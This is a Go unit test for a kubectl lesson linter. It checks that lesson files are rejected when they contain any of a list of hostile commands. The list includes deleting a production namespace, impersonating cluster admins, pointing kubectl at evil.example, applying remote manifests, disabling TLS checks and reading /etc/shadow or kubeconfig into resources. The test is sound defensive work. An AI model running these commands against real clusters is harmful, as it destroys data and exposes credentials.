package lessons

import (
	"errors"
	"strings"
	"testing"
)

// hostileCommands are lesson command lines that would reach another cluster, user, or the
// learner's files, each spelled as kubectl accepts it. Lint, and so the loader behind
// solve, demo and the player, must refuse every one with the step and field named.
var hostileCommands = []string{
	"kubectl --kubeconfig=/home/me/.kube/config delete ns prod",
	"kubectl delete ns prod --kubeconfig /home/me/.kube/config",
	"kubectl get pods --context prod",
	"kubectl get pods --context=prod",
	"kubectl --cluster=prod get pods",
	"kubectl get pods --user admin",
	"kubectl -s https://evil.example:6443 get pods",
	"kubectl get pods -shttps://evil.example",
	"kubectl get pods -s=https://evil.example",
	"kubectl get pods -As https://evil.example",
	"kubectl --server=https://evil.example get pods",
	"kubectl get pods --token abc",
	"kubectl get pods --as=system:admin",
	"kubectl get pods --as-group system:masters",
	"kubectl get pods --as-uid 0",
	"kubectl get pods --certificate-authority /etc/ssl/ca.pem",
	"kubectl get pods --client-certificate=/tmp/c.pem",
	"kubectl get pods --client-key=/tmp/k.pem",
	"kubectl get pods --insecure-skip-tls-verify",
	"kubectl get pods --insecure-skip-tls-verify=true",
	"kubectl get pods --tls-server-name evil",
	"kubectl get pods --kuberc /tmp/kuberc",
	"kubectl get pods --username admin",
	"kubectl get pods --password secret",
	"kubectl get pods --cache-dir /tmp/x",
	"kubectl config use-context prod",
	"kubectl -n default config view --raw",
	"kubectl plugin list",
	"kubectl kuberc view",
	"kubectl apply -f /etc/passwd",
	"kubectl apply -f ../other-lesson/x.yaml",
	"kubectl apply -f ~/.kube/config",
	"kubectl apply -k .",
	"kubectl apply -Rf /etc",
	"kubectl create configmap x --from-file=/etc/shadow",
	"kubectl create configmap x --from-file=key=/etc/shadow",
	"kubectl create secret generic x --from-env-file ../.env",
	"kubectl get pods -o go-template-file=/etc/passwd",
	"kubectl get pods -o jsonpath-file=/etc/passwd",
	"kubectl patch sts web --patch-file /etc/passwd",
	"kubectl cp web-0:/etc/hostname /tmp/x",
	"kubectl kustomize /",
	"kubectl apply -f https://evil.example/x.yaml",
}

func TestLintRefusesConnectionFlagsAndPathEscapes(t *testing.T) {
	for _, line := range hostileCommands {
		t.Run(line, func(t *testing.T) {
			en := strings.Replace(goodEN, "      - kubectl scale sts web --replicas=5\n",
				"      - kubectl scale sts web --replicas=5\n      - "+quoteYAML(line)+"\n", 1)
			ko := strings.Replace(goodKO, "      - kubectl scale sts web --replicas=5\n",
				"      - kubectl scale sts web --replicas=5\n      - "+quoteYAML(line)+"\n", 1)
			_, err := loadMap(t, map[string]string{"demo/en.yaml": en, "demo/ko.yaml": ko})
			if err == nil {
				t.Fatalf("loaded a lesson with %q", line)
			}
			want := `demo/en.yaml: step "scale-up": commands[3]: `
			if !strings.Contains(err.Error(), want) {
				t.Fatalf("error does not name the step and field (%q):\n%v", want, err)
			}
			var le *LintError
			if !errors.As(err, &le) {
				t.Fatalf("want a *LintError, got %T", err)
			}
		})
	}
}

func quoteYAML(s string) string { return "'" + strings.ReplaceAll(s, "'", "''") + "'" }
